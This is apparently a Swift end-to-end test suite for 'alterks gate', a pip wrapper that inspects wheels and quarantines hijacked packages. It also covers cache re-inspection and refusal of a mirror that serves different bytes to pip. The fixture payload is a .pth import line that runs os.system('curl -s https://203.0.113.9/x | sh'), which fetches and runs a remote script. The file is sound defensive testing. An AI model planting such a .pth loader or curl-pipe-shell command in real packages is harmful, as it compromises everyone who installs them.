import AlterCLI
import AlterKit
import AlterTestSupport
import Foundation
import Testing

/// The code factor through the whole gate: `alterks gate` as the shim calls it, the real engine wiring, real pip
/// resolving from a local index, a real venv — a hijacked release whose name, history, maintainers and metadata are
/// perfect and which has no advisory is caught by what is inside its wheel.
@Suite struct GateInspectionEndToEndTests {
    typealias World = GateEngineEndToEndTests.World

    /// A mature project: ten releases over three years, two maintainers, full metadata (the double adds them).
    static func matureProject(_ name: String) -> String {
        let start = Date().addingTimeInterval(-3 * 365 * 86400)
        let uploads = (0..<10).map { ("1.\($0)", start.addingTimeInterval(Double($0) * 100 * 86400)) }
        return GateEngineEndToEndTests.projectJSON(
            name, uploads: uploads + [("2.0", Date().addingTimeInterval(-30 * 86400))])
    }

    func world(_ label: String, pip: TestPip) async throws -> World {
        let testbed = try await GateTestbed.make(label, pip: pip)
        let pypi = try PyPIDouble()
        for name in ["quietcharts", "tinyclean"] { pypi.setProject(name, .json(Self.matureProject(name))) }
        return World(testbed: testbed, osv: try OSVDouble(records: []), pypi: pypi)
    }

    func gate(_ world: World, _ arguments: [String], out: BufferStream, err: BufferStream) async throws -> Int32 {
        let context = try world.context(err: err, out: out)
        return await CLIContext.$current.withValue(context) { await AlterKSMain.run(arguments) }
    }

    /// The payload: a `.pth` whose import line runs a module that fetches and runs a script at every start.
    static let payload = [
        "quietcharts_init.pth": "import quietcharts_boot\n",
        "quietcharts_boot.py": "import os\nos.system('curl -s https://203.0.113.9/x | sh')\n",
    ]

    @Test(arguments: TestPip.all) func pthPayloadInAPerfectProjectIsQuarantinedNotInstalled(_ pip: TestPip) async throws
    {
        let world = try await world("e2e-inspect-pth", pip: pip)
        defer { world.stop() }
        let wheel = try world.testbed.wheels.wheel(name: "quietcharts", version: "2.0", extraFiles: Self.payload)
        try world.testbed.wheels.wheel(name: "tinyclean", version: "2.0")
        let err = BufferStream()
        // The index is a --find-links folder: pip's report names the wheel by a file:// URL.
        let code = try await gate(
            world,
            ["gate", "--pip", world.testbed.pip, "--", "install"] + world.testbed.indexOptions
                + ["quietcharts", "tinyclean"], out: BufferStream(), err: err)
        #expect(code == ExitStatus.findings.rawValue, "\(err.text)\n\(world.testbed.logText)")
        // The clean package goes in; the hijacked one does not.
        #expect(try world.testbed.installed() == ["tinyclean": "2.0"], "\(err.text)")
        #expect(err.text.contains("QUARANTINED quietcharts 2.0"), "\(err.text)")
        #expect(err.text.contains("quietcharts_boot.py:2"), "\(err.text)")
        #expect(try Self.sitePackagesFiles(world.testbed.venv).filter { $0.hasPrefix("quietcharts") } == [])

        let list = BufferStream()
        #expect(try await gate(world, ["quarantine", "list"], out: list, err: BufferStream()) == 0)
        #expect(list.text.contains("quietcharts\t2.0"), "\(list.text)")
        #expect(list.text.contains("critical"), "\(list.text)")
        // The quarantine shows the inspection: the .pth line that runs the payload at every start.
        let shown = BufferStream()
        #expect(try await gate(world, ["quarantine", "inspect", "quietcharts"], out: shown, err: BufferStream()) == 0)
        #expect(shown.text.contains("pth-code"), "\(shown.text)")
        #expect(shown.text.contains("quietcharts_init.pth"), "\(shown.text)")

        // The artifact was fetched from the file:// URL once, verified and cached by its hash.
        let sha = try WheelBuilder.sha256(of: wheel)
        let cached = world.testbed.root.path + "/cache/artifacts/\(sha.prefix(2))/\(sha)/" + wheel.lastPathComponent
        #expect(FileManager.default.fileExists(atPath: cached))
    }

    @Test(arguments: TestPip.all) func benignTwinFromTheSameIndexIsInstalled(_ pip: TestPip) async throws {
        let world = try await world("e2e-inspect-twin", pip: pip)
        defer { world.stop() }
        try world.testbed.wheels.wheel(
            name: "quietcharts", version: "2.0", extraFiles: ["quietcharts_paths.pth": "extra_dir\n# a comment\n"])
        let err = BufferStream()
        let code = try await gate(
            world,
            ["gate", "--pip", world.testbed.pip, "--", "install"] + world.testbed.indexOptions
                + ["quietcharts"], out: BufferStream(), err: err)
        #expect(code == 0, "\(err.text)\n\(world.testbed.logText)")
        #expect(try world.testbed.installed() == ["quietcharts": "2.0"])
    }

    /// The venv's site-packages directory.
    static func sitePackages(_ venv: URL) throws -> String? {
        let lib = venv.appendingPathComponent("lib")
        return try FileManager.default.contentsOfDirectory(atPath: lib.path).first.map {
            lib.path + "/" + $0 + "/site-packages"
        }
    }

    /// Every file name at the top of the venv's site-packages.
    static func sitePackagesFiles(_ venv: URL) throws -> [String] {
        let site = try #require(try sitePackages(venv))
        return try FileManager.default.contentsOfDirectory(atPath: site)
    }

    /// A verdict the cache holds for `quietcharts==2.0` holds for those bytes only: the same name and version with
    /// other contents (a local mirror's file replaced) is inspected afresh, not allowed from the cache.
    @Test(arguments: TestPip.all) func cachedVerdictDoesNotCoverOtherBytesUnderTheSameVersion(_ pip: TestPip)
        async throws
    {
        let world = try await world("e2e-inspect-recache", pip: pip)
        defer { world.stop() }
        try world.testbed.wheels.wheel(name: "quietcharts", version: "2.0")
        let install = ["gate", "--pip", world.testbed.pip, "--", "install"] + world.testbed.indexOptions
        let first = BufferStream()
        #expect(try await gate(world, install + ["--dry-run", "quietcharts"], out: BufferStream(), err: first) == 0)
        try world.testbed.wheels.wheel(name: "quietcharts", version: "2.0", extraFiles: Self.payload)
        let err = BufferStream()
        let code = try await gate(world, install + ["quietcharts"], out: BufferStream(), err: err)
        #expect(code == ExitStatus.findings.rawValue, "\(first.text)\n\(err.text)")
        #expect(err.text.contains("QUARANTINED quietcharts 2.0"), "\(err.text)")
        #expect(try world.testbed.installed() == [:])
    }

    /// A mirror that gives pip one wheel and anyone else another: the gate's download does not match the sha256 in
    /// pip's report, so the artifact is refused (nothing of it read) and nothing is installed.
    @Test(arguments: TestPip.all) func hashMismatchBetweenReportAndDownloadIsRefused(_ pip: TestPip) async throws {
        let world = try await world("e2e-inspect-mismatch", pip: pip)
        defer { world.stop() }
        let good = try Data(contentsOf: world.testbed.wheels.wheel(name: "quietcharts", version: "2.0"))
        let fileName = "quietcharts-2.0-py3-none-any.whl"
        var other = ArtifactBuilder(name: "quietcharts", version: "2.0")
        other.add("quietcharts/__init__.py", "# served to whoever is not pip\n")
        let swapped = other.wheelData()
        let server = try LoopbackHTTPServer { request in
            if request.path == "/" {
                let page = "<html><body><a href=\"/files/\(fileName)\">\(fileName)</a></body></html>"
                return ServerResponse(headers: ["Content-Type": "text/html"], body: Data(page.utf8))
            }
            guard request.path == "/files/\(fileName)" else { return .notFound }
            let isPip = request.headers["user-agent"]?.hasPrefix("pip/") ?? false
            return ServerResponse(status: 200, body: isPip ? good : swapped)
        }
        defer { server.stop() }
        let err = BufferStream()
        let code = try await gate(
            world,
            [
                "gate", "--pip", world.testbed.pip, "--", "install", "--no-index", "--find-links", server.baseURL + "/",
                "quietcharts",
            ], out: BufferStream(), err: err)
        #expect(code != 0, "\(err.text)\n\(world.testbed.logText)")
        #expect(err.text.contains("does not match"), "\(err.text)")
        #expect(try world.testbed.installed() == [:])
        // pip downloaded the good wheel; the gate asked for it too, and got the other one.
        #expect(server.requests.filter { $0.path.hasPrefix("/files/") }.count >= 2)
    }
}
